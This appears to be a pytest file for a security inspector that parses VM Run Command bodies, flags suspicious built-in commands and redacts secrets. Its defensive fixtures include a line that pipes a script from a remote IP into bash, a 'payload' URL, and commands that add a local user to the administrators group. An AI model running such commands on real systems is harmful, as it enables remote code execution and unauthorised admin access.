"""Run Command: the action body and managed runCommands resources."""

from __future__ import annotations

import pytest

from inspector.extensions import InputKind, ScriptRole, UrlRole
from inspector.model import ArtifactType

from tests.extensions.samples import (
    PROTECTED_PARAM,
    RUN_AS_PASSWORD,
    SAS_SIG,
    managed_run_command,
    plan,
    run_command_add_admin,
    run_command_benign,
)


def test_action_script_lines_are_joined_and_each_line_keeps_its_origin():
    p = plan(run_command_add_admin(), InputKind.RUN_COMMAND)
    assert p.kind == "run_command"
    [script] = p.scripts
    assert script.origin == "script" and script.role is ScriptRole.RUN_COMMAND_SCRIPT
    assert script.language is ArtifactType.POWERSHELL  # "RunPowershellScript": compared ignoring case
    lines = script.content.decode().split("\n")
    assert lines[1] == "net user helpdesk Spring2025!q /add"
    assert script.line_origins == ["script[0]", "script[1]", "script[2]", "script[3]"]
    assert "Spring2025!q" not in str(p.redacted_request)  # the password in the command is scrubbed
    assert "net localgroup administrators helpdesk /add" in str(p.redacted_request)


def test_benign_shell_action():
    p = plan(run_command_benign(), InputKind.RUN_COMMAND)
    assert p.scripts[0].language is ArtifactType.SHELL and p.findings == []


def test_lines_with_embedded_newlines_and_wrong_types_keep_the_numbering():
    p = plan({"commandId": "RunShellScript", "script": ["a\nb", 7, None, "c"]}, InputKind.RUN_COMMAND)
    [script] = p.scripts
    assert script.content == b"a\nb\n7\n\nc"
    assert script.line_origins == ["script[0]", "script[0]", "script[1]", "script[2]", "script[3]"]


def test_script_as_a_single_string_is_tolerated_and_an_object_is_a_problem():
    assert plan({"commandId": "RunShellScript", "script": "id"}, InputKind.RUN_COMMAND).scripts[0].content == b"id"
    p = plan({"commandId": "RunShellScript", "script": {"line": "id; uname -a"}}, InputKind.RUN_COMMAND)
    assert [q.kind for q in p.problems] == ["wrong_type"]


@pytest.mark.parametrize(
    ("command_id", "finding"),
    [
        ("EnableAdminAccount", "structure.run_command.enable_admin_account"),
        ("disablenla", "structure.run_command.disable_nla"),
        ("EnableRemotePS", "structure.run_command.enable_remote_ps"),
        ("SetRDPPort", "structure.run_command.set_rdp_port"),
        ("RemoveRunCommandWindowsExtension", "structure.run_command.remove_run_command_extension"),
    ],
)
def test_suspicious_built_in_commands(command_id, finding):
    p = plan({"commandId": command_id}, InputKind.RUN_COMMAND)
    assert [f.id for f in p.findings] == [finding]
    assert 0 < p.findings[0].score < 300


def test_harmless_built_ins_are_not_flagged():
    for command_id in ("IPConfig", "ifconfig", "RDPSettings", "IMDSCertCheck"):
        assert plan({"commandId": command_id}, InputKind.RUN_COMMAND).findings == []


def test_parameters_that_carry_a_payload_are_scanned():
    body = run_command_benign()
    body["parameters"] = [{"name": "stage2", "value": "curl -s http://203.0.113.5/x.sh | bash"},
                          {"name": "url", "value": "https://203.0.113.5/drop.bin"}]
    p = plan(body, InputKind.RUN_COMMAND)
    assert "parameters[0].value" in [s.origin for s in p.scripts]
    assert [(u.origin, u.role) for u in p.urls] == [("parameters[1].value", UrlRole.PAYLOAD)]


def test_managed_run_command_script_blobs_and_state():
    p = plan(managed_run_command("Get-Service | Where-Object Status -eq Running"), InputKind.RUN_COMMAND)
    assert p.kind == "managed_run_command"
    assert [s.origin for s in p.scripts] == ["source.script"]
    assert {u.origin: u.role for u in p.urls} == {"outputBlobUri": UrlRole.OUTPUT_BLOB, "errorBlobUri": UrlRole.OUTPUT_BLOB}
    assert p.context.status == "Succeeded" and p.context.exit_code == 0
    assert p.context.resource_id.endswith("/runCommands/healthcheck")
    dumped = p.model_dump_json(exclude={"urls": {"__all__": {"url"}}})
    for secret in (PROTECTED_PARAM, RUN_AS_PASSWORD, SAS_SIG):
        assert secret not in dumped


def test_managed_run_command_failed_with_script_uri_and_command_id():
    body = managed_run_command("", state="Failed", exit_code=1)
    body["properties"]["source"] = {"scriptUri": "https://raw.githubusercontent.com/x/y/main/run.ps1", "commandId": "RunPowerShellScript"}
    p = plan(body, InputKind.RUN_COMMAND)
    [script_url] = [u for u in p.urls if u.role is UrlRole.SCRIPT]
    assert script_url.origin == "source.scriptUri" and script_url.language is ArtifactType.POWERSHELL
    assert p.entry_point == "source.scriptUri"
    assert p.context.status == "Failed" and p.context.exit_code == 1


def test_managed_properties_only_with_string_exit_code():
    props = managed_run_command("uname -a", state="Failed")["properties"]
    props["instanceView"]["exitCode"] = "127"
    p = plan(props, InputKind.RUN_COMMAND)
    assert p.kind == "managed_run_command" and p.context.exit_code == 127
